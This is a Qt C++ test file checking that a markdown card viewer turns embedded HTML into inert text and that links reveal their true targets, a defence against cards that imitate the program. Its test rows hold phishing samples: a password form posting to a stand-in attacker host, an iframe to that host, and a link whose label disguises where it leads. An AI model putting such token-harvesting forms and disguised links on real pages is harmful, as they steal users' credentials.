#include "ui/theme/theme.h"
#include "ui/widgets/markdownview.h"

#include <QAbstractButton>
#include <QApplication>
#include <QComboBox>
#include <QLineEdit>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTest>
#include <QTextBlock>

using namespace Qt::StringLiterals;

// M08: a card cannot pass for the program. Nothing in it takes input, and a link says where it
// leads whatever it is called.
class tst_CardImitation final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase() { applyTheme(*qApp, Settings::Theme::Light); }
    void takesNoInput_data();
    void takesNoInput();
    void linksShowTheirTargets();

private:
    static void show(MarkdownView &view, const QByteArray &card)
    {
        QSignalSpy shown(&view, &MarkdownView::contentShown);
        view.resize(800, 600);
        view.show();
        view.setReadme(card);
        QTRY_VERIFY(!shown.isEmpty());
    }
};

void tst_CardImitation::takesNoInput_data()
{
    QTest::addColumn<QByteArray>("card");
    const auto row = [](const char *tag, const QByteArray &card) {
        QTest::newRow(tag) << "Enter your token:\n\n" + card + "\n\nThe end.\n";
    };
    row("M08 form",
        "<form action='https://evil.example'><input type=password name=t>"
        "<input type=submit value='Sign in'></form>");
    row("M08 button", "<button onclick='x()'>Sign in</button>");
    row("M08 select", "<select><option>One<option>Two</select>");
    row("M08 text area", "<textarea rows=5>hf_</textarea>");
    row("M08 frame", "<iframe src='https://evil.example'></iframe><object data=x></object>");
    row("M08 editable", "<div contenteditable=true>hf_</div>");
    row("M08 dialog", "<dialog open><input></dialog>");
    row("M08 task", "- [ ] I agree\n- [x] Send my token");
}

void tst_CardImitation::takesNoInput()
{
    QFETCH(QByteArray, card);
    MarkdownView view;
    show(view, card);
    QVERIFY(view.toPlainText().contains(u"The end."_s));
    QVERIFY(view.isReadOnly());
    QVERIFY(view.findChildren<QLineEdit *>().isEmpty());
    QVERIFY(view.findChildren<QComboBox *>().isEmpty());
    QVERIFY(view.findChildren<QAbstractButton *>().isEmpty());
    const QString before = view.toPlainText();
    QSignalSpy links(&view, &MarkdownView::linkActivated);
    view.setFocus();
    QTest::keyClicks(&view, u"hf_secret"_s);
    QTest::keyClick(&view, Qt::Key_Return);
    for (int y = 8; y < 200; y += 12) // wherever somebody clicks
        QTest::mouseClick(view.viewport(), Qt::LeftButton, {}, {60, y});
    QCOMPARE(view.toPlainText(), before);
    QVERIFY(links.isEmpty());
}

void tst_CardImitation::linksShowTheirTargets()
{
    MarkdownView view;
    show(view, "[https://hub.example/settings](https://evil.example/?a=1&b=<2>) and text\n");
    const QTextBlock line = view.document()->begin();
    QTextCursor inside(line);
    inside.setPosition(line.position() + 4);
    const QPoint link = view.cursorRect(inside).center();
    QTest::mouseMove(view.viewport(), link + QPoint(0, 200));
    QTest::mouseMove(view.viewport(), link);
    QTRY_VERIFY(!view.viewport()->toolTip().isEmpty());
    QVERIFY2(view.viewport()->toolTip().contains(u"https://evil.example/?a=1&amp;b="_s),
             qPrintable(view.viewport()->toolTip()));
    QVERIFY(!view.viewport()->toolTip().contains(u"<2>"_s));
    QTest::mouseMove(view.viewport(), link + QPoint(0, 200));
    QTRY_VERIFY(view.viewport()->toolTip().isEmpty());
}

QTEST_MAIN(tst_CardImitation)
#include "tst_cardimitation.moc"
